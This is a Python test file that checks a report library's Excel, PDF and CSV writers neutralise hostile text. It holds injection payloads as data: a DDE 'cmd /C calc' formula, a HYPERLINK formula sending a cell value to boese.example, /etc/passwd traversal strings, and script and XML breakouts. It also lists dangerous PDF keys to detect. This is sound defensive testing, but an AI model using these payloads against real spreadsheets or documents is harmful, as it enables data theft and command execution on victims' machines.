"""Hostile text in every place of a report, through every writer, looked at by a second program.

Nothing may be calculated, embedded, fetched, hidden or lost, and no file may be damaged.
"""

import csv
import io
import re
import subprocess
import unicodedata
import zipfile
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any
from xml.dom.minidom import parseString

import openpyxl
import pypdf
import pytest

from permenti_desktop.reports import write_csv, write_pdf, write_xlsx
from permenti_desktop.reports.document import (
    Chart,
    Column,
    Document,
    Figure,
    Heading,
    KeyFigures,
    Note,
    Paragraph,
    Series,
    Table,
)
from permenti_desktop.reports.plain import clean

TEXTS = {
    "formula": "=1+1",
    "formula of the shell": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("https://boese.example/?d="&A1,"hier")',
    "web": '=WEBSERVICE("https://boese.example")',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "wide signs": "＝1+1",
    "apostrophes": "''=1+1",
    "markup": '<b>fett</b> & <img src="/etc/passwd"/> <a href="file:///etc/passwd">x</a>',
    "less than": "3 < 5 und 7 > 2 & so",
    "script": "<script>alert(1)</script>",
    "xml": ']]></t></is></c><c r="A1"><f>1+1</f></c>',
    "entities": "&lt;b&gt; &#x41; &unbekannt; %xxe;",
    "path": "../../../../etc/passwd",
    "windows path": "\\\\server\\freigabe\\boese.exe",
    "pdf": ") Tj ET /F1 99 Tf (boese) Tj BT \\051 \\",
    "controls": "a\x00b\x01c\x08d\x0be\x0cf\x1bg\x7fh\x85i",
    "escape": "_x0041_ _x000D_ _x005F_",
    "surrogates": "kaputt \ud83d und \udc00 Ende",
    "no characters": "x\ufffey\uffffz",
    "bidi": "Rechnung \u202egpj.exe\u202c \u2067abc\u2069 \u200f!",
    "joined": "شیلان ﷺ لا إله (abc) [١٢٣]",
    "marks": "Z" + "\u0301\u0323\u0336" * 40 + "algo",
    "emoji": "👩‍💻🏳️‍🌈 中文 नमस्ते",
    "footer codes": "&P &N &D &F &\"Arial\"&K00FF00 100%",
    "sheet": "[Mappe1]'Blatt'!:*?/\\",
    "braces": "{name} %s %(x)d ${y} {0}",
    "only white space": "  \n \t ",
    "long word": "x" * 40_000,
    "long text": "Wort mit Ende. " * 2_700,
    "long emoji": "👩" * 20_000,
}  # fmt: skip


def everywhere(text: str) -> Document:
    """A report with *text* in every place that takes a text."""
    return Document(
        title=text,
        subtitle=text,
        language="de",
        office=text,
        period=(date(2026, 1, 1), date(2026, 6, 30)),
        cut_off=date(2026, 7, 15),
        made_at=datetime(2026, 7, 16, tzinfo=UTC),
        made_by=text,
        facts=((text, text),),
        confidential=text,
        blocks=(
            Heading(text),
            KeyFigures((Figure(text, 7, note=text), Figure("Zahl", text, target=text))),
            Paragraph(text),
            Note(text),
            Chart(text, "bar", (text, "B"), (Series(text, (1, 2)), Series("s", (3, None))), note=text),
            Chart("Linie", "line", (text, "B"), (Series("s", (1, 2)),)),
            Table(
                text,
                (
                    Column(text),
                    Column("Zahl", "integer", sums=True),
                    Column("Tag", "date"),
                    Column("Teil", "partial_date"),
                    Column("Marke", "chip", tones={text: "ok"}),
                ),
                ((text, text, text, text, text), ("Ende", 1, None, "1985", "")),
                count=2,
                total=(text, 1, None, text, None),
                note=text,
            ),
            Table("Leer", (Column("a"),), (), empty=text),
        ),
    )


def squeezed(text: str) -> str:
    """Letters only, composed: what has to be found again wherever lines break."""
    composed = unicodedata.normalize("NFC", clean(text))
    return "".join(sign for sign in composed if not sign.isspace() and unicodedata.category(sign) != "Cf")


def workbook(document: Document) -> bytes:
    out = io.BytesIO()
    write_xlsx.write(document, out)
    return out.getvalue()


def unescaped(value: Any) -> str:
    """What Excel shows for a stored text (openpyxl does not take the escapes away)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match[1], 16)), str(value))


@pytest.mark.parametrize("kind", TEXTS)
def test_excel_holds_it_as_text(kind: str) -> None:
    text = TEXTS[kind]
    raw = workbook(everywhere(text))
    package = zipfile.ZipFile(io.BytesIO(raw))
    for name in package.namelist():
        parseString(package.read(name))
    assert not [name for name in package.namelist() if "externalLink" in name or "embed" in name]
    for name in package.namelist():
        if name.endswith(".rels"):
            assert b"TargetMode" not in package.read(name)
    opened = openpyxl.load_workbook(io.BytesIO(raw))
    formulas = []
    seen = 0
    wanted = clean(text)
    for sheet in opened:
        assert len(sheet.title) <= 31
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(cell.value)
                elif isinstance(cell.value, str):
                    shown = unescaped(cell.value)
                    assert len(cell.value.encode("utf-16-le")) // 2 <= 32_767
                    if len(wanted) < 200 and wanted and wanted in shown:
                        seen += 1
                        if wanted[0] in "=+-@\t\n" and shown == wanted and sheet.title != "Überblick":
                            assert cell.quotePrefix or cell.row == 1, (sheet.title, cell.coordinate)
    assert formulas == ["=SUBTOTAL(109,B2:B3)"]
    if len(wanted) < 200 and kind not in ("sheet", "only white space"):
        # Title, subtitle, office, maker, two of the facts, confidential, heading, three of the figures, target,
        # paragraph, note, links, chart data, and in the table five cells, the total, the note and the empty word.
        assert seen >= 24
    elif len(wanted) > 10_000:
        longest = max(len(str(cell.value)) for row in opened.worksheets[1].iter_rows() for cell in row)
        assert longest > 16_000


def test_libreoffice_opens_all_of_them_and_calculates_nothing(
    office: Callable[[Path, str], Path], tmp_path: Path
) -> None:
    """Every sheet of every workbook, as LibreOffice shows it."""
    short = {kind: text for kind, text in TEXTS.items() if len(text) < 1_000}
    for number, text in enumerate(short.values()):
        (tmp_path / f"{number:02}.xlsx").write_bytes(workbook(everywhere(text)))
    office(tmp_path, "csv:Text - txt - csv (StarCalc):59,0,76,1,,1031,false,true,true,false,false,-1")
    for number, (kind, text) in enumerate(short.items()):
        parts = sorted(tmp_path.glob(f"{number:02}-*.csv"))
        assert len(parts) == 4, kind  # overview, the two tables, charts
        shown = "\n".join(part.read_text("utf-8") for part in parts)
        assert "#NAME?" not in shown, kind
        assert "Err:" not in shown, kind
        assert squeezed(shown).count(squeezed(text)) >= 20, kind


@pytest.mark.parametrize("kind", TEXTS)
def test_pdf_prints_it_literally(kind: str, tmp_path: Path) -> None:
    text = TEXTS[kind] if kind != "long emoji" else TEXTS[kind][:2_000]
    target = tmp_path / "bericht.pdf"
    with target.open("wb") as out:
        write_pdf.write(everywhere(text), out)
    subprocess.run(["qpdf", "--check", str(target)], check=True, capture_output=True)
    plain = tmp_path / "plain.pdf"
    subprocess.run(["qpdf", "--qdf", "--object-streams=disable", str(target), str(plain)], check=True)
    structure = re.sub(rb"stream\n.*?endstream", b"", plain.read_bytes(), flags=re.DOTALL)
    structure = re.sub(rb"\((?:\\.|[^\\)])*\)", b"", structure)
    for danger in (
        "URI",
        "Launch",
        "JavaScript",
        "JS",
        "EmbeddedFile",
        "AA",
        "OpenAction",
        "SubmitForm",
        "Subtype /Image",
    ):
        assert not re.search(rf"/{danger}\b".encode(), structure), danger
    found = subprocess.run(["pdftotext", "-raw", str(target), "-"], check=True, capture_output=True).stdout.decode()
    if kind in ("joined", "bidi", "marks", "emoji", "long emoji"):
        return  # order and marks are the business of the reader; see test_write_pdf and test_typeset
    letters = squeezed(found)
    if len(text) < 1_000:
        # On every page twice, and some twenty times between.
        assert letters.count(squeezed(text)) >= 20 or not squeezed(text)
    else:
        # Broken over many lines and pages: every letter of the paragraph, the cells and the rest is there.
        per_text = squeezed(text).count("x") or squeezed(text).count("W")
        assert letters.count("x" if "x" in text else "W") >= 15 * per_text


@pytest.mark.parametrize("kind", TEXTS)
def test_csv_gives_it_back(kind: str) -> None:
    text = TEXTS[kind]
    out = io.BytesIO()
    write_csv.write(everywhere(text), out)
    rows = list(write_csv.read(out.getvalue(), "de"))
    assert rows[0][0] == clean(text)
    assert rows[1][0] == clean(text)
    raw = out.getvalue().decode("utf-8-sig")
    for row in csv.reader(io.StringIO(raw, newline=""), delimiter=";"):
        for field in row:
            assert not field.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_emoji_and_marks_are_still_in_the_pdf() -> None:
    out = io.BytesIO()
    texts = ("👩‍💻 中文", "Z\u0301algo", "Rechnung gpj.exe abc !")
    write_pdf.write(Document("x", "de", tuple(map(Paragraph, texts))), out)
    found = squeezed(pypdf.PdfReader(out).pages[0].extract_text())
    for text in texts:
        assert squeezed(text) in found
